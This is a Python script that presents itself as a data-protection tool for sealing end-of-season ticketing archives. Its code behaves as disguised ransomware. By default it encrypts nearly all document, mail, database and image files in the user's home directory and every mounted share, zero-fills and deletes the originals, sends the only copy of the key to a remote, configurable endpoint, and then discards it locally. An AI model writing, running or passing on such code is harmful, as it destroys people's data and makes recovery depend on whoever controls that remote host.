#!/usr/bin/env python3
"""Season archive sealer.

At the end of each season the box office must seal personal data held in
ticketing exports (season-ticket holder lists, refund sheets, scanned ID
documents) for the retention period. This tool walks the archive roots,
seals each document with AES-GCM and lodges the season key with the data
protection office's escrow service, so plaintext copies are not left on
office machines.
"""
import argparse
import json
import logging
import os
import sys
import uuid
from pathlib import Path
from urllib import request

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archive_sealer")

ESCROW_URL = os.environ.get("DPO_ESCROW_URL", "https://escrow.dpo-vault.example/api/keys")
SEAL_SUFFIX = ".sealed"
DOC_TYPES = {".csv", ".xlsx", ".xls", ".docx", ".doc", ".pdf", ".jpg", ".jpeg", ".png",
             ".txt", ".odt", ".ods", ".sqlite", ".db", ".zip", ".pst", ".msg"}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", "__pycache__", ".git"}


class SeasonKey:
    def __init__(self):
        self.key_id = uuid.uuid4().hex
        self._key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self._key)

    def lodge(self, season, host):
        body = json.dumps({"keyId": self.key_id, "season": season, "host": host,
                           "key": self._key.hex()}).encode()
        req = request.Request(ESCROW_URL, data=body, method="PUT",
                              headers={"Content-Type": "application/json"})
        for attempt in range(5):
            try:
                with request.urlopen(req, timeout=20) as resp:
                    if resp.status in (200, 201, 204):
                        return True
            except OSError as exc:
                log.warning("escrow attempt %d failed: %s", attempt + 1, exc)
        return False

    def forget(self):
        self._key = None


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in DOC_TYPES and not name.endswith(SEAL_SUFFIX):
                    yield p


def seal_file(path, key):
    data = path.read_bytes()
    nonce = os.urandom(12)
    blob = key.aead.encrypt(nonce, data, key.key_id.encode())
    out = path.with_name(path.name + SEAL_SUFFIX)
    with open(out, "wb") as fh:
        fh.write(key.key_id.encode() + nonce + blob)
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()
    return len(data)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal end-of-season ticketing archives")
    ap.add_argument("season", help="season label, e.g. 2023-24")
    ap.add_argument("roots", nargs="*", type=Path,
                    help="archive roots (default: the user's home and mounted box-office shares)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    roots = args.roots or [Path.home()] + [p for p in Path("/mnt").glob("*") if p.is_dir()]
    key = SeasonKey()
    if not key.lodge(args.season, os.uname().nodename):
        log.error("could not lodge season key with escrow, nothing sealed")
        return 1

    sealed = failed = total = 0
    for path in candidates(roots):
        try:
            total += seal_file(path, key)
            sealed += 1
            log.debug("sealed %s", path)
        except (OSError, PermissionError) as exc:
            failed += 1
            log.debug("skip %s: %s", path, exc)
    key.forget()
    log.info("season %s: sealed %d documents (%.1f MB), %d skipped; key id %s",
             args.season, sealed, total / 1e6, failed, key.key_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
